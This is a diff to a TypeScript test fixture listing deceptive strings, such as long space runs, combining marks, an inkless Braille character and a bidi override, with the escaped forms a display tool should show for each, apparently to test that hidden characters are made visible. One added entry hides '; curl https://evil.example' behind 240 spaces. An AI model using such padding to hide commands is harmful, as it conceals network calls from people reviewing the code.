@@ -68,6 +68,14 @@ export const hostileTexts: readonly HostileText[] = [
     text: `a${'\u0301'.repeat(5)}`,
     shown: `a${'\u0301'.repeat(3)}⟦U+0301⟧⟦U+0301⟧`,
   },
+  {
+    name: 'a command behind spaces',
+    text: `echo cleaning${' '.repeat(240)}; curl https://evil.example`,
+    shown: 'echo cleaning⟦240 spaces⟧; curl https://evil.example',
+  },
+  { name: 'a Braille pattern without ink', text: 'a\u2800b', shown: 'a⟦U+2800⟧b' },
+  { name: 'eight spaces', text: `a${' '.repeat(8)}b`, shown: 'a⟦8 spaces⟧b' },
+  { name: 'a combining character behind spaces', text: `a${' '.repeat(9)}\u0338`, shown: 'a⟦9 spaces⟧⟦U+0338⟧' },
   { name: 'a combining character without a base', text: '\u0338x', shown: '⟦U+0338⟧x' },
   { name: 'a combining character that strikes out a mark', text: 'a\u202e\u0338', shown: 'a⟦U+202E⟧⟦U+0338⟧' },
 ];
@@ -76,6 +84,7 @@ export const hostileTexts: readonly HostileText[] = [
 export const honestTexts: readonly string[] = [
   'plain text',
   'plain 👍 text',
+  'seven       spaces',
   'Größe: 3 €',
   '数字は三つ',
   'Привет, мир',
